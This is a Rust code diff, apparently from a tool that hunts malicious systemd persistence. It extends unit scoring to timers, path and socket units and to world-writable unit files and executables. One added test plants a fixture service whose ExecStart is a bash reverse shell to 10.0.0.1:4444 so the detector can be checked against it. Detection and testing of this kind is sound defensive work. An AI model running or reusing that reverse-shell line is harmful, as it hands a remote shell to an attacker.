@@ -34,6 +34,12 @@ pub struct Finding {
     /// MD5 over what decides the unit (the paths and bytes of its fragment and drop-ins, or what
     /// its entry is): equal fingerprints, same unit (`hunt --baseline`).
     pub fingerprint: String,
+    /// The unit a `.timer`, `.path` or `.socket` starts.
+    pub triggers: Option<String>,
+    /// When its files last changed (the latest change or modification time of the fragment and
+    /// drop-ins, in seconds since the epoch): the change time cannot be set back the way a
+    /// modification time can (`touch -d`).
+    pub changed: Option<i64>,
 }
 
 impl Finding {
@@ -77,6 +83,30 @@ fn risky_place(path: &str) -> Option<&'static str> {
         return Some("a hidden (dot) path");
     }
     None
+}
+
+/// The metadata of what `path` names inside the root (links followed inside it).
+fn metadata_in(root: &Root, path: &str) -> Option<std::fs::Metadata> {
+    let r = root.resolve(path).ok()?;
+    std::fs::metadata(r.host).ok()
+}
+
+/// A reason when anyone may rewrite `path` (a unit file, a drop-in, an executable): whoever
+/// can, runs code as the unit's user at its next start.
+fn world_writable(root: &Root, what: &str, path: &str) -> Option<Reason> {
+    use std::os::unix::fs::PermissionsExt;
+    let mode = metadata_in(root, path)?.permissions().mode();
+    (mode & 0o002 != 0).then(|| Reason {
+        weight: 35,
+        text: format!("{what} {path} is world-writable (mode {:o})", mode & 0o7777),
+    })
+}
+
+/// The latest change or modification time of a file inside the root.
+fn changed_at(root: &Root, path: &str) -> Option<i64> {
+    use std::os::unix::fs::MetadataExt;
+    let m = metadata_in(root, path)?;
+    Some(m.ctime().max(m.mtime()))
 }
 
 /// Interpreters and the flag that runs code given inline.
@@ -291,6 +321,8 @@ pub fn judge_generator(root: &Root, db: &Dpkg, path: &str) -> Finding {
         exec: Vec::new(),
         reasons,
         fingerprint: print,
+        triggers: None,
+        changed: changed_at(root, path),
     }
 }
 
@@ -305,9 +337,71 @@ fn fingerprint(parts: &[&[u8]]) -> String {
     h.finalize().iter().map(|b| format!("{b:02x}")).collect()
 }
 
-/// Judges every unit found.
+/// Judges every unit found, then each `.timer`, `.path` and `.socket` by what it starts too: a
+/// timer firing a reverse shell is as bad as the shell's unit.
 pub fn judge(root: &Root, db: &Dpkg, units: &[FoundUnit]) -> Vec<Finding> {
-    units.iter().map(|u| judge_unit(root, db, u)).collect()
+    let mut findings: Vec<Finding> = units.iter().map(|u| judge_unit(root, db, u)).collect();
+    let scores: std::collections::HashMap<String, (u32, &'static str)> = findings
+        .iter()
+        .map(|f| (f.unit.clone(), (f.score(), f.severity())))
+        .collect();
+    for f in &mut findings {
+        let Some(target) = f.triggers.clone() else {
+            continue;
+        };
+        // An instance (`x@1.service`) runs its template's definition.
+        let template = template_of(&target);
+        match scores
+            .get(&target)
+            .or_else(|| template.as_ref().and_then(|t| scores.get(t)))
+        {
+            Some(&(score, severity)) if score >= 25 => f.reasons.push(Reason {
+                weight: (score / 2).min(40),
+                text: format!("starts {target}, which scores {score} ({severity})"),
+            }),
+            Some(_) => {}
+            None => f.reasons.push(Reason {
+                weight: 5,
+                text: format!("starts {target}, which does not exist"),
+            }),
+        }
+    }
+    findings
+}
+
+/// `name@.service` for an instance `name@inst.service`.
+fn template_of(unit: &str) -> Option<String> {
+    let (stem, suffix) = unit.rsplit_once('.')?;
+    let (prefix, inst) = stem.split_once('@')?;
+    (!inst.is_empty()).then(|| format!("{prefix}@.{suffix}"))
+}
+
+/// The unit a trigger unit starts (systemd.timer(5), systemd.path(5), systemd.socket(5)):
+/// `Unit=` (`Service=` for sockets), else the unit of the same name with `.service`; a socket
+/// with `Accept=yes` starts instances of `name@.service`.
+fn trigger_target(name: &str, unit: &Unit) -> Option<String> {
+    let (stem, kind) = name.rsplit_once('.')?;
+    let (section, key) = match kind {
+        "timer" => ("Timer", "Unit"),
+        "path" => ("Path", "Unit"),
+        "socket" => ("Socket", "Service"),
+        _ => return None,
+    };
+    if let Some(e) = unit.get(section, key).filter(|e| !e.value.is_empty()) {
+        return Some(e.value.clone());
+    }
+    let accept = unit.get("Socket", "Accept").is_some_and(|e| {
+        matches!(
+            e.value.to_ascii_lowercase().as_str(),
+            "yes" | "true" | "1" | "on"
+        )
+    });
+    // A template trigger (`x@.timer`) starts the instance of the same name.
+    Some(if kind == "socket" && accept {
+        format!("{stem}@.service")
+    } else {
+        format!("{stem}.service")
+    })
 }
 
 fn ownership_reason(
@@ -361,8 +455,18 @@ fn judge_unit(root: &Root, db: &Dpkg, u: &FoundUnit) -> Finding {
         }
     }
     let mut exec = Vec::new();
+    let mut triggers = None;
+    let mut changed = None;
     let mut printed: Vec<Vec<u8>> = vec![fragment.as_bytes().to_vec()];
     if let Fragment::File(p) = &u.fragment {
+        reasons.extend(world_writable(root, "unit file", p));
+        for d in &u.dropins {
+            reasons.extend(world_writable(root, "drop-in", d));
+        }
+        changed = std::iter::once(p)
+            .chain(u.dropins.iter())
+            .filter_map(|f| changed_at(root, f))
+            .max();
         let mut files = Vec::new();
         for path in std::iter::once(p).chain(u.dropins.iter()) {
             match read_regular(root, path, MAX_UNIT_BYTES) {
@@ -384,6 +488,7 @@ fn judge_unit(root: &Root, db: &Dpkg, u: &FoundUnit) -> Finding {
         if let Some((first, rest)) = files.split_first() {
             let rest: Vec<&crate::unit::UnitFile> = rest.iter().collect();
             let unit = Unit::new(first, &rest);
+            triggers = trigger_target(&u.name, &unit);
             for key in EXEC_KEYS {
                 for e in unit.list("Service", key) {
                     exec.push(format!("{key}={}", e.value));
@@ -411,6 +516,11 @@ fn judge_unit(root: &Root, db: &Dpkg, u: &FoundUnit) -> Finding {
                                         ownership_reason("executable", &c.path, &own, 25)
                                     {
                                         reasons.push(r);
+                                    }
+                                    if let Some(r) = world_writable(root, "executable", &c.path) {
+                                        if !reasons.contains(&r) {
+                                            reasons.push(r);
+                                        }
                                     }
                                 }
                             }
@@ -467,6 +577,8 @@ fn judge_unit(root: &Root, db: &Dpkg, u: &FoundUnit) -> Finding {
         owner,
         exec,
         reasons,
+        triggers,
+        changed,
     }
 }
 
@@ -564,6 +676,62 @@ mod tests {
         let findings = judge(&root, &db, &enumerate(&root, &path));
         let cron = findings.iter().find(|f| f.unit == "cron.service").unwrap();
         assert_eq!(cron.score(), 0, "{:?}", cron.reasons);
+    }
+
+    #[test]
+    fn triggers_carry_what_they_start_and_world_writable_files_are_named() {
+        use std::os::unix::fs::PermissionsExt;
+        let tree = crate::testtree::Tree::new("triggers");
+        let b = &tree.0;
+        let put = |p: &str, text: &str| tree.file(p, text);
+        let shell = "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\n";
+        put("/etc/systemd/system/a.service", shell);
+        // Unit= names another service; the timer is judged by it.
+        put(
+            "/etc/systemd/system/t.timer",
+            "[Timer]\nOnBootSec=1\nUnit=a.service\n",
+        );
+        // Accept=yes: instances of s@.service.
+        put(
+            "/etc/systemd/system/s.socket",
+            "[Socket]\nListenStream=4444\nAccept=yes\n",
+        );
+        put("/etc/systemd/system/s@.service", shell);
+        // Same name by default; this one starts nothing that exists.
+        put("/etc/systemd/system/p.path", "[Path]\nPathExists=/tmp/x\n");
+        put(
+            "/etc/systemd/system/w.service",
+            "[Service]\nExecStart=/opt/w/run\n",
+        );
+        put("/opt/w/run", "#!/bin/sh\n");
+        for f in ["etc/systemd/system/w.service", "opt/w/run"] {
+            std::fs::set_permissions(b.join(f), std::fs::Permissions::from_mode(0o666)).unwrap();
+        }
+        let root = Root::new(b);
+        let db = Dpkg::load(&root);
+        let path: Vec<String> = SYSTEM_UNIT_PATH.iter().map(|s| s.to_string()).collect();
+        let findings = judge(&root, &db, &enumerate(&root, &path));
+        let get = |n: &str| findings.iter().find(|f| f.unit == n).unwrap();
+        let has = |n: &str, text: &str| {
+            let f = get(n);
+            assert!(
+                f.reasons.iter().any(|r| r.text.contains(text)),
+                "{n}: {:?}",
+                f.reasons
+            );
+        };
+        assert_eq!(get("t.timer").triggers.as_deref(), Some("a.service"));
+        has("t.timer", "starts a.service, which scores 100 (critical)");
+        assert_eq!(get("t.timer").severity(), "critical");
+        assert_eq!(get("s.socket").triggers.as_deref(), Some("s@.service"));
+        has("s.socket", "starts s@.service");
+        has("p.path", "starts p.service, which does not exist");
+        has(
+            "w.service",
+            "unit file /etc/systemd/system/w.service is world-writable (mode 666)",
+        );
+        has("w.service", "executable /opt/w/run is world-writable");
+        assert!(get("w.service").changed.is_some());
     }
 
     fn md5_hex(s: &str) -> String {
